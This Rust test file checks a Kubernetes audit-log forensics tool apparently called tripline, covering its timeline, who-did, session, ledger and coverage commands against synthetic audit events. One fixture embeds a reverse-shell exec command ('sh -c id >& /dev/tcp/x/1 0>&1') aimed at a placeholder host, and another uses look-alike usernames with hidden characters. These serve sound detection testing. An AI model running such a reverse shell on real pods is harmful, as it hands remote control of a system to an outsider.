//! The commands that ask, on what a real process recorded.

use std::{collections::BTreeSet, fs};

use serde_json::Value;

use crate::binary::{run, tripline};

const EVENT: &str = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"@ID@","stage":"@STAGE@","requestURI":"@URI@","verb":"@VERB@","user":{"username":"@USER@","groups":["system:authenticated"]},"sourceIPs":["10.8.1.24"],"userAgent":"kubectl/v1.34","objectRef":{"resource":"@RESOURCE@","namespace":"payments","name":"@NAME@","subresource":"@BELOW@","apiVersion":"v1"},"responseStatus":{"code":@CODE@},"requestReceivedTimestamp":"@RECEIVED@","stageTimestamp":"2026-03-04T@TIME@Z","cluster":"prod","annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by RoleBinding \"edit/payments\" of Role \"edit\" to User \"anna@example.org\""}}"#;

/// An event from `key=value` pairs.
pub(super) fn event(pairs: &[(&str, &str)]) -> String {
    let usual = [
        ("ID", "1"),
        ("STAGE", "ResponseComplete"),
        ("URI", "/api/v1/namespaces/payments/secrets/db-password"),
        ("VERB", "get"),
        ("USER", "anna@example.org"),
        ("RESOURCE", "secrets"),
        ("NAME", "db-password"),
        ("BELOW", ""),
        ("CODE", "200"),
        ("RECEIVED", "2026-03-04T10:00:00.000000Z"),
        ("TIME", "10:00:00.100000"),
    ];
    let mut text = EVENT.to_owned();
    for (key, value) in pairs.iter().chain(&usual) {
        text = text.replace(&format!("@{key}@"), value);
    }
    text
}

/// A directory in which `tripline run` has read these events.
pub(super) fn recorded(events: &[String]) -> tempfile::TempDir {
    let directory = tempfile::tempdir().unwrap();
    fs::write(directory.path().join("audit.log"), events.join("\n") + "\n").unwrap();
    let root = env!("CARGO_MANIFEST_DIR");
    let config = format!(
        "sources: [{{file: {{paths: [audit.log]}}}}]\nrules: {root}/rules\nstate: state\n\
         http: {{listen: '127.0.0.1:0'}}\n\
         receivers: [{{name: out, stdout: {{format: json}}}}]\nroute: {{receiver: out}}\n"
    );
    fs::write(directory.path().join("tripline.yaml"), config).unwrap();
    let (code, _, log) = run(tripline(directory.path()).arg("run"));
    assert_eq!(code, 0, "{log}");
    directory
}

pub(super) fn ask(directory: &tempfile::TempDir, args: &[&str]) -> (i32, String, String) {
    run(tripline(directory.path()).args(args))
}

pub(super) const DAY: [&str; 2] = ["--from=2026-03-04", "--to=2026-03-05"];

fn world() -> tempfile::TempDir {
    let exec = "/api/v1/namespaces/payments/pods/web-0/exec?command=sh&command=-c&command=id";
    recorded(&[
        event(&[]),
        event(&[]),
        event(&[("ID", "2"), ("VERB", "list"), ("NAME", ""), ("TIME", "10:00:05.000000")]),
        event(&[
            ("ID", "3"),
            ("STAGE", "ResponseStarted"),
            ("URI", exec),
            ("RESOURCE", "pods"),
            ("NAME", "web-0"),
            ("BELOW", "exec"),
            ("CODE", "101"),
            ("TIME", "10:01:00.000000"),
        ]),
        event(&[
            ("ID", "3"),
            ("URI", exec),
            ("RESOURCE", "pods"),
            ("NAME", "web-0"),
            ("BELOW", "exec"),
            ("CODE", "101"),
            ("TIME", "10:01:35.000000"),
        ]),
        event(&[("ID", "4"), ("USER", "eve"), ("CODE", "403"), ("TIME", "11:00:00.000000")]),
    ])
}

#[test]
fn a_responder_and_an_auditor_get_their_answers() {
    let directory = world();
    let (code, out, log) =
        ask(&directory, &["timeline", "--actor", "anna@example.org", DAY[0], DAY[1]]);
    assert_eq!(code, 0, "{log}");
    for part in [
        "RoleBinding payments/edit → Role payments/edit",
        "kubectl get secrets db-password -n payments",
        "kubectl exec web-0 -n payments -- sh -c id  [session start]",
        "[session end after 1 min 35 s]",
        "10.8.1.24",
    ] {
        assert!(out.contains(part), "{part} is not in\n{out}");
    }
    assert!(!out.contains("eve"), "{out}");
    let reads = out.lines().filter(|line| line.contains("db-password")).count();
    assert_eq!(reads, 1, "a copy counts once\n{out}");

    let (_, out, _) = ask(
        &directory,
        &["who-did", "get", "secrets", "db-password", "-n", "payments", DAY[0], DAY[1]],
    );
    assert!(out.contains("[covered it]") && out.contains("eve"), "{out}");
    assert_eq!(out.lines().count(), 4, "{out}");

    let (_, out, _) = ask(&directory, &["sessions", "--format=jsonl", DAY[0], DAY[1]]);
    let session: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!((&session["state"], &session["command"]), (&"ended".into(), &"sh -c id".into()));
    assert_eq!(session["seconds"], 95.0);

    let (_, out, _) = ask(&directory, &["visits", "--format=jsonl", DAY[0], DAY[1]]);
    let visits: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(visits.len(), 2, "{out}");
    assert_eq!((&visits[0]["requests"], &visits[1]["denied"]), (&3.into(), &1.into()));

    let (code, out, log) = ask(&directory, &["ledger", "verify"]);
    assert_eq!(code, 0, "{out}{log}");
    assert!(out.starts_with("sound: "), "{out}");
    let (_, lines, _) = ask(&directory, &["ledger", "export"]);
    let (code, out_of_file, _) = ask(&directory, &["ledger", "export", "--output", "all.jsonl"]);
    assert_eq!((code, out_of_file.as_str()), (0, ""));
    assert_eq!(fs::read_to_string(directory.path().join("all.jsonl")).unwrap(), lines);
    let (code, exported, _) = ask(&directory, &["ledger", "verify", "--file", "all.jsonl"]);
    assert_eq!((code, exported), (0, out), "the export has the same chain");
    for line in lines.lines() {
        let row: Value = serde_json::from_str(line).unwrap();
        assert!(row["kind"].is_string() && row["recorded"].is_string(), "{line}");
    }
    let (code, out, _) = ask(&directory, &["ledger", "status"]);
    assert!(code == 0 && out.contains("secret_read"), "{out}");
    let (code, out, _) = ask(&directory, &["coverage", DAY[0], DAY[1]]);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn mistakes_are_named_with_what_was_meant() {
    let directory = world();
    for (args, hint) in [
        (&["timeline", "--actor", "ana@example.org"][..], "did you mean `anna@example.org`?"),
        (&["timeline", "--from=2026-03-05", "--to=2026-03-04"][..], "nothing lies between"),
        (&["timeline", "--zone", "Europe/Rom"][..], "did you mean Europe/Rome?"),
        (&["timeline", "--since", "soon"][..], "is not a span of time"),
        (&["timeline", "--from", "yesterday"][..], "is not a time"),
        (&["timeline", "--after", "x"][..], "is no cursor"),
        (&["who-did", "gett", "secrets"][..], "did you mean `get`?"),
        (&["who-did", "get", "secret"][..], "did you mean `secrets`?"),
        (&["who-did", "get", "po"][..], "did you mean `pods`?"),
        (&["who-did", "create", "exec", DAY[0], DAY[1]][..], "did you mean `pods/exec`?"),
        (&["timeline", "--verb", "gett", DAY[0], DAY[1]][..], "did you mean `get`?"),
        (&["timeline", "--verb", "GET", DAY[0], DAY[1]][..], "did you mean `get`?"),
        (&["timeline", "--resource", "po", DAY[0], DAY[1]][..], "did you mean `pods`?"),
        (&["timeline", "--resource", "deploy", DAY[0], DAY[1]][..], "did you mean `deployments`?"),
        (&["timeline", "--resource", "pods/exce", DAY[0], DAY[1]][..], "`pods/exec`?"),
        (
            &["timeline", "--resource", "deployments.batch", DAY[0], DAY[1]][..],
            "`deployments.apps`?",
        ),
        (&["timeline", "--alert", "AB@2026-03-04T10:00:00Z"][..], "`AB@2026-03-04T10:00:00Z`"),
        (
            &["timeline", "--class", "secret_reed", DAY[0], DAY[1]][..],
            "did you mean `secret_read`?",
        ),
        (&["timeline", "--cluster", "prodd", DAY[0], DAY[1]][..], "did you mean `prod`?"),
        (&["timeline", "-n", "paymentz", DAY[0], DAY[1]][..], "did you mean `payments`?"),
        (&["timeline", "--resource", "secret", DAY[0], DAY[1]][..], "did you mean `secrets`?"),
        (&["visits", "--cluster", "prodd", DAY[0], DAY[1]][..], "did you mean `prod`?"),
        (&["sessions", "-n", "paymentz", DAY[0], DAY[1]][..], "did you mean `payments`?"),
        (
            &["who-did", "get", "secrets", "-n", "paymentz", DAY[0], DAY[1]][..],
            "did you mean `payments`?",
        ),
        (&["coverage", "--cluster", "prodd", DAY[0], DAY[1]][..], "did you mean `prod`?"),
        (&["ledger", "export", "--format=parquet", "-o", "x"][..], "--features parquet"),
        (&["ledger", "verify", "--seal", "abc"][..], "64 hexadecimal digits"),
        (&["ledger", "export", "--month", "2026-13"][..], "there are: 20"),
        (&["ledger", "export", "--month", "2020-01", "-o", "x"][..], "there are: 20"),
        (&["timeline", "--server", "127.0.0.1:9464"][..], "write it as http://127.0.0.1:9464"),
        (&["timeline", "--server", "localhost:9464"][..], "write it as http://127.0.0.1:9464"),
        (&["alerts", "list", "--server", "127.0.0.1:9464"][..], "write it as http://"),
        (&["silence", "list", "--server", "ftp://x"][..], "write it as http://"),
    ] {
        if cfg!(feature = "parquet") && args.contains(&"--format=parquet") {
            continue;
        }
        let (code, out, told) = ask(&directory, args);
        assert_eq!((code, out.as_str()), (2, ""), "{args:?}");
        assert!(told.contains(hint), "{args:?}: {told}");
    }
    // Known, though nothing was done to it.
    for args in [
        &["timeline", "--class", "impersonation", DAY[0], DAY[1]][..],
        &["timeline", "--cluster", "prod", "-n", "payments", "--to=2026-03-04", "--since=1d"][..],
    ] {
        let (code, out, told) = ask(&directory, args);
        assert!(code == 0 && out.starts_with("nothing in this time"), "{args:?}: {out}{told}");
    }
    let (code, _, told) = ask(&directory, &["timeline", "--state", "nowhere"]);
    assert!(code == 1 && told.contains("there is no ledger here"), "{told}");
}

#[test]
fn a_subresource_and_a_group_say_which_requests_are_meant() {
    let exec = "/api/v1/namespaces/payments/pods/web-0/exec?command=sh&command=-c&command=id%20%3E%26%20/dev/tcp/x/1%200%3E%261";
    let pod = [("RESOURCE", "pods"), ("NAME", "web-0")];
    let entered = |id, verb| {
        let own = [("ID", id), ("VERB", verb), ("BELOW", "exec"), ("URI", exec), ("CODE", "101")];
        event(&[&own[..], &pod].concat())
    };
    let deleted =
        event(&[("ID", "4"), ("VERB", "delete"), ("RESOURCE", "deployments"), ("NAME", "web")])
            .replace("\"apiVersion\":\"v1\"}", "\"apiGroup\":\"apps\",\"apiVersion\":\"v1\"}");
    let directory = recorded(&[
        entered("1", "create"),
        entered("2", "get"),
        event(&[&[("ID", "3"), ("VERB", "delete")][..], &pod].concat()),
        deleted,
    ]);
    let count = |args: &[&str]| {
        let (code, out, log) =
            ask(&directory, &[args, &["--format=jsonl", DAY[0], DAY[1]]].concat());
        assert_eq!(code, 0, "{args:?}: {log}");
        out.lines().filter(|line| line.contains("\"kind\":\"access\"")).count()
    };
    assert_eq!(count(&["timeline", "--resource", "pods"]), 3);
    assert_eq!(count(&["timeline", "--resource", "pods/exec"]), 2);
    assert_eq!(count(&["timeline", "--resource", "pods/log"]), 0);
    // One way to enter a pod is `create`, the other `get`.
    assert_eq!(count(&["who-did", "create", "pods/exec", "web-0", "-n", "payments"]), 2);
    assert_eq!(count(&["who-did", "create", "pods"]), 1);
    assert_eq!(count(&["timeline", "--resource", "deployments.apps"]), 1);
    assert_eq!(count(&["who-did", "delete", "deployments.apps/scale"]), 0);
    let (_, out, _) = ask(&directory, &["timeline", "--resource", "pods/exec", DAY[0], DAY[1]]);
    assert!(out.contains("-- sh -c id '>&' /dev/tcp/x/1 '0>&1'"), "{out}");
}

/// What machines read is rolled up by the hour.
const MACHINE: (&str, &str) = ("USER", "system:serviceaccount:shop:api");

fn machine_reads(times: &[(&'static str, &'static str)]) -> Vec<String> {
    let read = |(id, time): &(&'static str, &'static str)| {
        event(&[MACHINE, ("NAME", "tok"), ("ID", id), ("TIME", time)])
            .replace("system:authenticated", "system:serviceaccounts")
    };
    times.iter().map(read).collect()
}

const WHO_READ: [&str; 6] = ["who-did", "get", "secrets", "tok", "-n", "payments"];

#[test]
fn a_roll_up_is_shown_by_each_time_into_which_it_lasts() {
    let mut events = machine_reads(&[
        ("m1", "09:05:00.000000"),
        ("m2", "09:30:00.000000"),
        ("m3", "09:55:00.000000"),
    ]);
    events.push(event(&[("ID", "9"), ("TIME", "12:00:00.000000")]));
    let directory = recorded(&events);
    for (from, to, is_in) in [
        ("09:20", "10:00", true),
        ("09:20", "09:25", true),
        ("09:55", "10:00", true),
        ("09:00", "09:06", true),
        ("09:00", "09:05", false),
        ("09:56", "11:00", false),
    ] {
        let time = [format!("--from=2026-03-04 {from}"), format!("--to=2026-03-04 {to}")];
        let time = [time[0].as_str(), time[1].as_str()];
        let (code, out, log) = ask(&directory, &[&WHO_READ[..], &time[..]].concat());
        assert_eq!(code, 0, "{log}");
        assert_eq!(out.contains("[the last at 2026-03-04 09:55:00]"), is_in, "{from} {to}: {out}");
        for question in ["timeline", "visits"] {
            let args = [question, "--actor", MACHINE.1, time[0], time[1]];
            let (_, out, log) = ask(&directory, &args);
            assert_eq!(out.contains(MACHINE.1), is_in, "{question} {from} {to}: {out}{log}");
        }
    }
}

#[test]
fn what_is_rolled_up_when_files_end_is_told_and_more_of_the_hour_is_another_row() {
    let directory =
        recorded(&machine_reads(&[("m1", "09:05:00.000000"), ("m2", "09:06:00.000000")]));
    let counts = || {
        let args = [&WHO_READ[..], &DAY[..], &["--format=jsonl"]].concat();
        let (_, out, log) = ask(&directory, &args);
        let rows = out.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let counts: Vec<u64> = rows.map(|row| row["count"].as_u64().unwrap()).collect();
        (counts, log)
    };
    assert_eq!(counts().0, [2]);
    // Nothing more; and then two of which one is known.
    assert_eq!(run(tripline(directory.path()).arg("run")).0, 0);
    assert_eq!(counts().0, [2]);
    let path = directory.path().join("audit.log");
    let more = machine_reads(&[("m2", "09:06:00.000000"), ("m3", "09:07:00.000000")]);
    fs::write(&path, fs::read_to_string(&path).unwrap() + &more.join("\n") + "\n").unwrap();
    assert_eq!(run(tripline(directory.path()).arg("run")).0, 0);
    assert_eq!(counts().0, [2, 1]);
    let (code, out, _) = ask(&directory, &["ledger", "verify"]);
    assert!(code == 0 && out.starts_with("sound: "), "{out}");
}

#[test]
fn where_there_is_nothing_yet_it_is_said_that_something_may_come() {
    let directory = recorded(&[event(&[])]);
    for question in [&["timeline"][..], &["visits"], &WHO_READ] {
        let asked = |time: &[&str]| {
            let (code, out, log) = ask(&directory, &[question, time].concat());
            assert_eq!(code, 0, "{log}");
            assert!(out.contains("in this time"), "{out}");
            out.contains("requests that are rolled up come when their time is over")
        };
        assert!(asked(&["--from=2125-03-04", "--to=2125-03-05"]), "{question:?}");
        assert!(!asked(&["--from=2025-03-04", "--to=2025-03-05"]), "{question:?}");
    }
}

#[test]
fn the_end_of_a_session_counts_wherever_it_is() {
    let exec = |id, stage, time| {
        event(&[
            ("ID", id),
            ("STAGE", stage),
            ("URI", "/api/v1/namespaces/payments/pods/web-0/exec?command=sh"),
            ("RESOURCE", "pods"),
            ("NAME", "web-0"),
            ("BELOW", "exec"),
            ("CODE", "101"),
            ("RECEIVED", "2026-03-04T09:00:10.000000Z"),
            ("TIME", time),
        ])
    };
    let directory = recorded(&[
        exec("1", "ResponseStarted", "09:00:10.500000"),
        exec("2", "ResponseStarted", "09:00:20.000000"),
        exec("1", "ResponseComplete", "11:00:10.000000"),
        exec("3", "ResponseComplete", "12:00:10.000000"),
    ]);
    let sessions = |args: &[&str]| {
        let args = [&["sessions", "--format=jsonl"], args].concat();
        let (code, out, log) = ask(&directory, &args);
        assert_eq!(code, 0, "{log}");
        let lines = out.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let told = lines.map(|one| {
            let text =
                |name: &str| one[name].as_str().unwrap_or("").get(11..19).unwrap_or("").to_owned();
            format!("{} {} {}", one["state"].as_str().unwrap(), text("start"), text("end"))
        });
        told.collect::<Vec<_>>()
    };
    let morning = ["--from=2026-03-04", "--to=2026-03-04 10:30"];
    let both = ["ended 09:00:10 11:00:10", "opened 09:00:20 "];
    assert_eq!(sessions(&morning), both);
    assert_eq!(sessions(&["--running", morning[0], morning[1]]), [both[1]]);
    // Of one whose beginning is not in the time, or in the log, the end says when it was asked for.
    let later = ["--from=2026-03-04 10:30", "--to=2026-03-05"];
    let ended = [both[0], both[1], "ended 09:00:10 12:00:10"];
    assert_eq!(sessions(&later), ended);
    // Who was inside at half past ten, though nobody came or went?
    let between = ["--from=2026-03-04 10:30", "--to=2026-03-04 10:31"];
    assert_eq!(sessions(&between), both);
    assert_eq!(sessions(&["--from=2026-03-04 11:30", "--to=2026-03-04 11:31"]), [both[1]]);
    assert_eq!(sessions(&["--from=2026-03-05", "--to=2026-03-06"]), [] as [&str; 0]);
    let (_, out, _) = ask(&directory, &[&["sessions"], &later[..]].concat());
    assert!(
        out.lines().nth(1).is_some_and(|line| line.starts_with("2026-03-04 09:00:10")),
        "{out}"
    );
}

#[test]
fn names_that_look_alike_have_alerts_of_their_own() {
    // As JSON has them, and as they are.
    let users = [
        (r"eve\u200b@example.org", "eve\u{200b}@example.org"),
        (r"eve\u200c@example.org", "eve\u{200c}@example.org"),
        (r"eve\u001b@example.org", "eve\u{1b}@example.org"),
        (r"eve\u0009x", "eve\tx"),
        ("eve x", "eve x"),
    ];
    let exec = |id: &str, user: &str| {
        event(&[
            ("ID", id),
            ("STAGE", "ResponseStarted"),
            ("URI", "/api/v1/namespaces/payments/pods/web-0/exec?command=bash&command=-i"),
            ("VERB", "create"),
            ("USER", user),
            ("RESOURCE", "pods"),
            ("NAME", "web-0"),
            ("BELOW", "exec"),
            ("CODE", "101"),
        ])
    };
    let events: Vec<String> =
        ["1", "2", "3", "4", "5"].iter().zip(users).map(|(id, (user, _))| exec(id, user)).collect();
    let directory = recorded(&events);
    let rows = |args: &[&str]| -> Vec<Value> {
        let (code, out, log) =
            ask(&directory, &[args, &["--format=jsonl", DAY[0], DAY[1]]].concat());
        assert_eq!(code, 0, "{log}");
        out.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    };
    let mut subjects = BTreeSet::new();
    for (_, user) in users {
        let alerts: Vec<Value> = rows(&["timeline", "--actor", user])
            .into_iter()
            .filter(|row| row["kind"] == "alert" && row["what"] == "firing")
            .collect();
        assert!(!alerts.is_empty(), "{user:?}");
        for alert in alerts {
            assert!(subjects.insert(alert["subject"].to_string()), "{user:?} shares {alert}");
        }
    }
}

#[test]
fn a_run_that_ends_with_its_files_says_so_last() {
    let (_, out, _) = ask(&world(), &["ledger", "export"]);
    let rows: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let kinds: Vec<&str> = rows.iter().map(|row| row["kind"].as_str().unwrap()).collect();
    assert!(kinds.ends_with(&["coverage", "stop", "seal"]), "{kinds:?}");
    assert_eq!(kinds.iter().filter(|kind| **kind == "stop").count(), 1);
    let stop = &rows[rows.len() - 2];
    assert!(stop.to_string().contains("finished"), "{stop}");
}

#[test]
fn coverage_of_a_file_says_what_came_in_order_and_is_told_to_its_end() {
    let directory = world();
    let hours = |args: &[&str]| -> Vec<(String, String, u64, u64)> {
        let (code, out, told) = ask(&directory, &[&["coverage", "--format=jsonl"], args].concat());
        assert_eq!(code, 0, "{told}");
        let lines = out.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let of = |hour: Value| {
            let (events, late) = (hour["events"].as_u64().unwrap(), hour["late"].as_u64().unwrap());
            (text(&hour["hour"])[11..13].to_owned(), text(&hour["verdict"]), events, late)
        };
        lines.map(of).collect()
    };
    let found = hours(&[DAY[0], "--to=2026-03-04 11:30"]);
    let told: Vec<(&str, u64, u64)> =
        found.iter().map(|(hour, _, events, late)| (hour.as_str(), *events, *late)).collect();
    let (untold, told) = told.split_at(10);
    assert_eq!(told, [("10", 5, 0), ("11", 1, 0)], "the last hour is told, and nothing is late");
    assert_eq!(untold.first(), Some(&("00", 0, 0)), "the first hour that is asked about");
    assert!(found[..10].iter().all(|(_, verdict, ..)| verdict == "not observed"), "{found:?}");
    // What is told of no later hour may be told still.
    let found = hours(&[DAY[0], "--to=2026-03-04 13:30"]);
    let verdicts: Vec<(&str, &str)> = found
        .iter()
        .skip(12)
        .map(|(hour, verdict, ..)| (hour.as_str(), verdict.as_str()))
        .collect();
    assert_eq!(verdicts, [("12", "open"), ("13", "open")]);
}
